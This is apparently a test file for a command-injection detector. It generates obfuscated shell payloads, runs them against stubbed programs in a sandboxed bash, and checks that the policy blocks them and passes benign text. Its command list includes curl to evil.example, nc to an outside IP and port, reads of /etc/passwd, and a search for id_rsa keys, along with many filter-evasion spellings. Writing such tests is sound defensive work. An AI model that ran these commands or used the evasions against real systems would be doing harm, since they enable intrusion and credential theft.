import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { expect, test } from 'vitest';
import { compilePolicy, inspect } from '../../inspect/index.ts';
import { passes } from '../../testing/payloads.ts';
import { randomFrom } from '../../testing/random.ts';
import { choices, query } from '../../testing/requests.ts';

const commands = [
  'id',
  'whoami',
  'ls -la',
  'cat /etc/passwd',
  'curl http://evil.example/x',
  'nc 198.51.100.7 4444',
  'ssh eve@198.51.100.7',
  'mkdir x',
  'rm -rf x',
  'uname -a',
  'tar cf x.tar .',
  'find / -name id_rsa',
];

type Spelling = (command: string) => string;
const name = (change: Spelling): Spelling => {
  return (command) => command.replace(/^\w+/, change);
};
const spellings: readonly Spelling[] = [
  (command) => command,
  name((word) => `${word.slice(0, 1)}''${word.slice(1)}`),
  name((word) => `${word.slice(0, 1)}"${word.slice(1, 2)}"${word.slice(2)}`),
  name((word) => `${word.slice(0, 1)}\\${word.slice(1)}`),
  name((word) => `${word.slice(0, 1)}\\\n${word.slice(1)}`),
  name((word) => `${word.slice(0, 1)}$@${word.slice(1)}`),
  name((word) => `\${x:-${word}}`),
  name((word) => `\${zz:=${word}}`),
  name((word) => `$(echo ${word})`),
  name((word) => `$(printf ${word})`),
  name((word) => `$x"${word}"`),
  name((word) => `$'\\x${word.charCodeAt(0).toString(16)}${word.slice(1)}'`),
  (command) => command.replaceAll(' ', `\${IFS}`),
  (command) => command.replaceAll(' ', '$IFS$9'),
  (command) => command.replaceAll(' ', ' \\\n'),
  (command) => (command.includes(' ') ? `{${command.replaceAll(' ', ',')}}` : `{${command},}`),
];
const wrappings: readonly Spelling[] = [
  (command) => command,
  (command) => `if true;then ${command};fi`,
  (command) => `if ${command};then :;fi`,
  (command) => `for i in 1;do ${command};done`,
  (command) => `case x in x)${command};;esac`,
  (command) => `f(){ ${command};};f`,
  (command) => `x='${command}';$x`,
  (command) => `set -- ${command};$1 $2`,
  (command) => `2>&1 ${command}`,
  (command) => `A=1 ${command}`,
  (command) => `trap '${command}' EXIT`,
  (command) => `. <(echo ${command})`,
  (command) => `bash<<<'${command}'`,
  (command) => `echo '${command}'|bash`,
];
/** What an application writes around a value, and how a value leaves that: to the left and to the right. */
const hosts: readonly (readonly [line: Spelling, left: string, right: string])[] = [
  [(value) => `host_program -c1 ${value}`, '', ' #'],
  [(value) => `host_program '${value}' out`, "'", ";'"],
  [(value) => `host_program "${value}" out`, '"', ' #'],
  [(value) => `echo $(host_program ${value})`, '', ''],
  [(value) => `host_program --out=${value} -y`, '', ' #'],
];
const separators = [';', '; ', ' | ', '|', '&&', ' && ', ' & ', '||', '\n'];
const substitutions: readonly Spelling[] = [(line) => `$(${line})`, (line) => `\`${line}\``];
const values = ['127.0.0.1', '1', 'x', 'a.png', 'en', 'example.com'];

interface Written {
  readonly payload: string;
  readonly line: string;
}

function write(seed: number, count: number): Written[] {
  const random = randomFrom(seed);
  const one = <T>(of: readonly T[]): T => of[Math.floor(random() * of.length)] as T;
  return Array.from({ length: count }, () => {
    const [line, left, right] = one(hosts);
    const spelled = one(spellings)(one(commands));
    const run = random() < 0.5 ? one(wrappings)(spelled) : spelled;
    const payload =
      random() < 0.25 && left !== "'"
        ? one(values) + one(substitutions)(run)
        : one(values) + left + one(separators) + run + right;
    return { payload, line: line(payload) };
  });
}

const bash = '/bin/bash';

/** Why the lines can't be run here, if so: some of them are written as bash does since its version 4. */
function whyNot(): string | undefined {
  const { stdout, error } = spawnSync(bash, ['--norc', '-c', 'echo $BASH_VERSINFO'], {
    encoding: 'utf8',
  });
  if (error) return `${bash} can't be run: ${error.message}`;
  return Number(stdout) >= 4 ? undefined : `${bash} is of version ${stdout.trim()}, before 4`;
}

/** Has bash run each line, where programs only note that they ran and its path holds nothing else; which of the lines ran one of `commands`. */
function runInBash(lines: readonly string[]): readonly boolean[] {
  const folder = mkdtempSync(path.join(tmpdir(), 'what-a-shell-runs-'));
  try {
    const named = new Set(commands.map((command) => command.split(' ')[0] as string));
    symlinkSync(bash, path.join(folder, 'bash'));
    const programs = [...named, 'host_program'].map(
      (program) => `${program}() { echo ${program} >>"$NOTES"; }; export -f ${program}`,
    );
    const runs = lines.map(
      (line, index) =>
        `export NOTES='${folder}/${index}.ran'; ( eval ${quoted(line)} ) </dev/null >/dev/null 2>&1`,
    );
    const env = { PATH: folder, HOME: folder, BASH_ENV: '' };
    const { status } = spawnSync(bash, ['--norc'], {
      cwd: folder,
      env,
      input: [...programs, ...runs, 'exit 0'].join('\n'),
      timeout: 60_000,
    });
    expect(status, 'what bash ended with').toBe(0);
    return lines.map((_line, index) => {
      const ran = notesOf(path.join(folder, `${index}.ran`));
      return ran.some((program) => named.has(program));
    });
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

function notesOf(file: string): string[] {
  try {
    return readFileSync(file, 'utf8').split('\n');
  } catch {
    return [];
  }
}

function quoted(text: string): string {
  return `'${text.replaceAll("'", `'\\''`)}'`;
}

test('what a shell runs is caught, whatever it is written in', { timeout: 90_000 }, ({ skip }) => {
  const reason = whyNot();
  if (reason !== undefined) skip(reason);
  const written = write(20261122, 300);
  const ran = runInBash(written.map(({ line }) => line));
  const proven = written.filter((_one, index) => ran[index]);
  const policy = compilePolicy({
    securityLevel: 'medium',
    categories: choices('medium', ['command_injection']),
  });
  const missed = proven.filter(({ payload }) => inspect(policy, query(payload)).decision !== 'block');
  expect(proven.length).toBeGreaterThan(150);
  expect(missed.length / proven.length).toBeLessThan(0.03);
});

passes([
  'first do the dishes; then find the keys; else call me',
  'if it rains; then do the laundry; we are done',
  'milk\ncat litter\nhead lettuce\ndog food',
  'Item\nsort order\ncut flowers',
  'text; line two\n\nls is a command\nthat lists',
  'servers\nhost web1.example.com\nhost web2.example.com',
  'ports:\nssh 22\nhttp 80',
  'apples & more fruits; sort by price',
  'cost is $5; $1 off today; set of two; $2',
  'set a=1; $1.50 each',
  'sizes: ls, md, sm; rm 2 of them',
  'the ${name:-friend} placeholder; ${greeting:=hello}',
  '$(this).find(".x") | $(window)',
  'arr[$(i)] = 1',
  'case closed; in (or out) we go; esac is a word',
  'do; re; mi; done',
  "trap 'em all; exit 0",
  'alias names: z=zip',
  '2>1 and 3>2; see >> here; see <(below) for more',
  'amazon echo; echo dot 5 & more',
  'me & who else; me and who?',
  'user.name|id',
  'foo.pdf | last page',
  '|a|b|\n| `rm x` | removes |',
  "don't; `mkdir foo` first",
  '||spoiler|| `sudo rm -rf /` lol',
  'my sql`select 1` tag; gql`query`',
  'Skills: html; php developer; ssh and git; docker',
  '.btn{color:red}.a>b{top:0};{a,b}',
  'read x<3; y>2',
  'see; vi rocks and so does nano',
]);
